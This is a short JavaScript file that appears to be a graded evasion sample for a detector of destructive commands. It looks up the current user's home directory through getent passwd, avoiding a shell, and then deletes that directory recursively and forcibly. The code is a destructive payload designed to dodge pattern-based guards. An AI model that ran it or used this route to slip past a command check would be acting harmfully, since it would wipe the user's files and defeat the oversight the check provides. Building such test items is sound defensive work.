// evasion: the home directory taken from getent passwd's output for the process's uid (an argument list, no shell), removed recursively
// grade: hard; does: delete
const { execFileSync } = require('child_process');
const fs = require('fs');
const home = execFileSync('getent', ['passwd', String(process.getuid())], { encoding: 'utf8' }).split(':')[5];
fs.rmSync(home, { recursive: true, force: true });
